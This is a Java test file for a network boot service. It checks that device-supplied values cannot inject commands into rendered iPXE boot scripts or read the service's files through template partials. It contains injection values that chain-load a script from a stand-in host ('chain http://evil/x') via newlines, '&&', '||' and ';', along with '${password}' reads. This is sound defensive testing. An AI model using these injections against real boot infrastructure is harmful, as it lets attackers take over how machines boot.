package io.mercury.boot;

import static org.assertj.core.api.Assertions.assertThat;

import io.mercury.common.transport.ClientSettings;
import io.mercury.common.transport.ServiceClient;
import io.mercury.inventory.testing.TestingInventory;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.zeromq.ZContext;

/**
 * Security finding F12: a device's {@code boot.script} is a Mustache template rendered with the device
 * document, which the device's agent writes; values went into the iPXE script as they were, so a field
 * holding {@code "\nchain http://evil/x"} added a command that chain-loaded another host's script. iPXE
 * has no escapes, so such values are refused: the device gets a script that prints why and fails.
 */
class BootScriptInjectionTest {
  static final String EVIL = "chain http://evil/x";

  TestingInventory inventory;
  ZContext context;
  ServiceClient client;
  BootService boot;
  final List<BootEvent> events = new CopyOnWriteArrayList<>();
  final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
  int macs;

  @BeforeEach
  void start() {
    inventory = TestingInventory.start();
    context = new ZContext();
    client = new ServiceClient(context, inventory.endpoint(), ClientSettings.defaults("inventory"));
    boot = BootService.start("127.0.0.1", 0, new BootDecider(new DeviceDirectory(client), BootServiceTest.IMAGE, AgentCredentials.none()), null, events::add);
  }

  @AfterEach
  void stop() {
    boot.close();
    client.close();
    context.close();
    inventory.close();
  }

  /** The script served to a new device whose {@code dmi.sys_vendor} is {@code vendor}. */
  HttpResponse<String> bootWithVendor(String id, String vendor, String template) throws Exception {
    String mac = String.format("52:54:00:00:01:%02x", ++macs);
    inventory.insert(
        Map.of("mercury_id", id, "interfaces", List.of(Map.of("address", mac)), "dmi", Map.of("sys_vendor", vendor), "boot", Map.of("script", template)));
    return http.send(
        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + boot.port() + "/boot/discover/" + mac)).timeout(Duration.ofSeconds(20)).build(),
        HttpResponse.BodyHandlers.ofString());
  }

  /** No line of the script is a command from the device's data, and it is the refusal. */
  static void assertRefused(HttpResponse<String> r, String id) {
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(r.body().lines()).noneMatch(l -> l.strip().startsWith("chain") || l.contains("&& chain") || l.contains("|| chain") || l.contains("; chain"));
    assertThat(r.body()).doesNotContain("${password}");
    assertThat(r.body())
        .startsWith("#!ipxe\necho MERCURY BOOT ERROR: boot.script of " + id + " not served: the value of {{dmi.sys_vendor}} ")
        .endsWith("\nexit 1\n");
    assertThat(r.body().lines()).hasSize(3);
  }

  @Test
  void aNewLineInAFieldAddsNoCommand() throws Exception {
    HttpResponse<String> r = bootWithVendor("dev-nl", "HP\n" + EVIL, "#!ipxe\necho {{dmi.sys_vendor}}\nexit\n");
    assertRefused(r, "dev-nl");
    assertThat(r.body()).contains("holds a control character (U+000A)");
    assertThat(events).anySatisfy(e -> {
      assertThat(e.decision()).isEqualTo("unsafe-value");
      assertThat(e.mercuryId()).isEqualTo("dev-nl");
    });
  }

  @Test
  void otherControlCharactersAndRawTemplatesAreRefusedToo() throws Exception {
    assertRefused(bootWithVendor("dev-cr", "HP\r" + EVIL, "#!ipxe\necho {{dmi.sys_vendor}}\n"), "dev-cr");
    assertRefused(bootWithVendor("dev-tab", "HP\t&&\t" + EVIL, "#!ipxe\necho {{dmi.sys_vendor}}\n"), "dev-tab");
    assertRefused(bootWithVendor("dev-nul", "HP\u0000", "#!ipxe\necho {{dmi.sys_vendor}}\n"), "dev-nul");
    assertRefused(bootWithVendor("dev-raw", "HP\n" + EVIL, "#!ipxe\necho {{{dmi.sys_vendor}}}\n"), "dev-raw");
    assertRefused(bootWithVendor("dev-amp", "HP\n" + EVIL, "#!ipxe\necho {{& dmi.sys_vendor}}\n"), "dev-amp");
  }

  @Test
  void iPxeSyntaxOnTheSameLineIsRefused() throws Exception {
    String template = "#!ipxe\necho {{dmi.sys_vendor}}\nexit\n";
    assertRefused(bootWithVendor("dev-and", "HP && " + EVIL, template), "dev-and");
    assertRefused(bootWithVendor("dev-or", "HP || " + EVIL, template), "dev-or");
    assertRefused(bootWithVendor("dev-semi", "HP ; " + EVIL, template), "dev-semi");
    assertRefused(bootWithVendor("dev-comment", "HP #rest", template), "dev-comment");
    assertRefused(bootWithVendor("dev-setting", "${password}", template), "dev-setting");
    // "&" then the template's own "&": one word "&&" on the line
    assertRefused(bootWithVendor("dev-edge", "&", "#!ipxe\necho x &{{dmi.sys_vendor}} true\n"), "dev-edge");
  }

  @Test
  void ordinaryValuesAreRenderedAsBefore() throws Exception {
    HttpResponse<String> r =
        bootWithVendor("dev-ok", "Dell Inc. R&D (rack#4; A|B) $5 {x}", "#!ipxe\necho {{mercury_id}} {{dmi.sys_vendor}}\nexit\n");
    assertThat(r.body()).isEqualTo("#!ipxe\necho dev-ok Dell Inc. R&D (rack#4; A|B) $5 {x}\nexit\n");
    assertThat(events).anySatisfy(e -> assertThat(e.decision()).isEqualTo("script"));
  }

  /**
   * mustache.java reads a partial ({@code {{> name}}}) from the renderer's working directory or class
   * path: a boot script could copy the boot service's files (its keys, say) into a script served to
   * anyone who asks for the device's MAC. Partials do not compile now.
   */
  @Test
  void aPartialReadsNoFileOfTheBootService() throws Exception {
    HttpResponse<String> r = bootWithVendor("dev-partial", "HP", "#!ipxe\n{{> logback.xml}}\n{{> mercury-version.properties}}\n");
    assertThat(r.body())
        .startsWith("#!ipxe\necho MERCURY BOOT ERROR: boot.script of dev-partial cannot be rendered: a boot script cannot include another template")
        .doesNotContain("appender", "version=")
        .endsWith("\nexit 1\n");
    assertThat(events).anySatisfy(e -> assertThat(e.decision()).isEqualTo("bad-script"));
  }

  @Test
  void aMessageThatNamesDeviceDataRunsNothing() throws Exception {
    // the duplicate-MAC message names the devices' ids, which agents choose
    String mac = "52:54:00:00:02:01";
    inventory.insert(Map.of("mercury_id", "a\n" + EVIL, "interfaces", List.of(Map.of("address", mac))));
    inventory.insert(Map.of("mercury_id", "b && " + EVIL + " # ${x}", "interfaces", List.of(Map.of("address", mac))));
    HttpResponse<String> r =
        http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + boot.port() + "/boot/discover/" + mac)).build(), HttpResponse.BodyHandlers.ofString());
    assertThat(r.body().lines()).containsExactly(
        "#!ipxe",
        "echo MERCURY BOOT ERROR: Duplicate mac addresses in inventory: 52:54:00:00:02:01 is on devices [a " + EVIL + ", b '&&' " + EVIL + " '#' $ {x}]",
        "exit 1");
  }
}
